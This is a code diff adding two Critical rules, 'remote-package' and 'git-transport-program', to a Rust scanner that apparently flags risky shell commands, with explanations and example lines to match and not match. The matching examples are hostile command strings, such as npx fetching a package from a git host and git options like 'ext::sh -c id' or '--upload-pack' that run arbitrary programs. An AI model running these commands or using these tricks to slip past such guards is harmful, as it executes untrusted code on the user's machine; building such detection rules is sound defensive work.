@@ -117,7 +117,8 @@ const fn class_of(rule: RuleId) -> Option<RuleId> {
         | R::ShellOutInCode
         | R::UnknownInlineCode
         | R::TaintedExecutable
-        | R::SharedDirExecutable => R::DataBecomesCode,
+        | R::SharedDirExecutable
+        | R::RemotePackage => R::DataBecomesCode,
         R::EnvironmentRunsCode
         | R::EnvExecutesProgram
         | R::EnvLoader
@@ -131,7 +132,8 @@ const fn class_of(rule: RuleId) -> Option<RuleId> {
         | R::RunnerChangesFiles
         | R::LoadsLibrary
         | R::EditorShellEscape
-        | R::GitConfigProgram => R::OptionRunsProgram,
+        | R::GitConfigProgram
+        | R::GitTransportProgram => R::OptionRunsProgram,
         R::Persists | R::Persistence | R::WritePersistence | R::WriteWorkspaceAutorun => {
             R::Persists
         }
@@ -602,6 +604,16 @@ rules! {
         "Git config that names a program (`core.pager`, `alias.*`, `core.sshCommand`, `core.hooksPath`, filters); the value is judged as a script.",
         "git runs these programs; `-c core.pager='sh -c ...'` is a known bypass.",
         ["git -c core.pager='sh -c \"id\"' log", "git config alias.x '!id'", "git -c core.hooksPath=/tmp/h commit"], ["git -c color.ui=false log"];
+    RemotePackage => "remote-package", Critical,
+        "A package runner (`npx`, `pnpm dlx`, `yarn dlx`, `bunx`, `npm exec`, `pipx run`, `uvx`, `uv run --with`) given a package from an arbitrary URL, a git host or a world-writable directory instead of a registry name.",
+        "The package's code is fetched from wherever the line says and run at once: a download piped into a shell, spelled as a package.",
+        ["npx -y github:x-example/pwn", "pnpm dlx https://x.example/p.tgz", "pipx run --spec git+https://x.example/r tool", "uvx --with /tmp/w.whl ruff check"],
+        ["npx eslint .", "pnpm dlx create-vite app", "pipx run pycowsay hi", "uvx ruff check ."];
+    GitTransportProgram => "git-transport-program", Critical,
+        "A program git runs to reach a remote, named on the line: an `ext::` remote URL, `--upload-pack`, `--receive-pack` or clone's and ls-remote's `-u`, `remote.*.uploadpack`/`receivepack` naming anything but git's own pack programs, and git config that names a hooks, template or include path in a world-writable directory.",
+        "Transports and pack programs exist to be git's own helpers; any other program there is a command line hidden in a URL or option, run before anything is fetched.",
+        ["git ls-remote 'ext::sh -c id'", "git clone --upload-pack='touch /tmp/p' h.example:r", "git clone -u 'sh /tmp/x' h.example:r", "git push --receive-pack='sh /tmp/r' origin main", "git -c include.path=/tmp/g.cfg status"],
+        ["git clone https://h.example/r", "git fetch --upload-pack=git-upload-pack origin", "git fetch -u origin main", "git -c include.path=~/.gitconfig-work status"];
     GitRunsHooks => "git-runs-hooks", Medium,
         "Git subcommands that change the repository and run repository hooks (`commit`, `merge`, `checkout`, `rebase`, `pull`).",
         "Hooks are arbitrary code from the repository.",
